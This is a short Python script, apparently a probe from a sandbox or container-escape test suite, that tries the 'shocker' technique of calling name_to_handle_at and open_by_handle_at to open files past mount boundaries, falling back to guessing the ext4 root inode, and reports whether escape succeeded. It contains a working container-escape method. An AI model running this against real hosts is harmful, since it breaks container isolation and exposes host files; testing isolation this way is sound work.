# tries: to open files by number, past every mount (the "shocker" of early Docker)
# bare: root
import ctypes
import os
import struct
from kernel import call, env, escaped, has_canary

AT_FDCWD = -100
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
mount = ctypes.c_int()
path = env('INPUT').encode()
result = call('name_to_handle_at', AT_FDCWD, path, handle, ctypes.byref(mount), 0)
print('handle', result)
if result < 0:  # guess: the inode of the canary cannot be known, that of the root folder is 2 on ext4
    handle = ctypes.create_string_buffer(struct.pack('IiII', 8, 1, 2, 0) + bytes(128))
folder = os.open(env('PROJECT'), os.O_RDONLY)
descriptor = call('open_by_handle_at', folder, handle, os.O_RDONLY)
print('open', descriptor)
escaped(descriptor >= 0)
